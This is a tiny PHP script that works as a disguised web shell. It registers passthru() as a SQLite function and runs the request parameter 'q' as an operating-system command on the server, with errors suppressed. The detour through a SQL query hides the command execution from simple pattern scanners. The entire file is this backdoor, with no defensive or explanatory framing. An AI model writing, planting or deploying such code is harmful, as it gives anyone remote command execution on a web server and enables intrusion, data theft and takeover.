<?php
// An SQL function of SQLite mapped to passthru(): the statement hands it the request's command.
$db = new SQLite3(':memory:');
$db->createFunction('ver', "passthru", 1);
$q = "SELECT ver(" . "'" . str_replace("'", "''", $_REQUEST['q']) . "'" . ")";
@$db->query($q);
